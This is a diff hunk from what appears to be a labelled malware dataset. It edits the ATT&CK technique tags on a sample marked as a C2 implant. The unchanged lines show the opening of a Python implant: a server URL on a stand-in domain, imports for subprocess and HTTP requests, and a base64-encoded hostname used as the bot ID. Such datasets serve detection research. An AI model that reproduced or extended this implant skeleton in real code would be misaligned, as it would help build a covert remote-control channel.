@@ -1,4 +1,4 @@
-# label: malicious family=c2 techniques=T1071.001,T1059.004,T1041,T1132.001 lines=3,7-8,11-12
+# label: malicious family=c2 techniques=T1041,T1059.004,T1071.001,T1082,T1132.001 lines=3,7-8,11-12
 import base64, json, os, subprocess, time, urllib.request
 SRV = "https://cdn-metrics.bad-host.example/api/v2"
 ID = base64.urlsafe_b64encode(os.uname().nodename.encode()).decode()
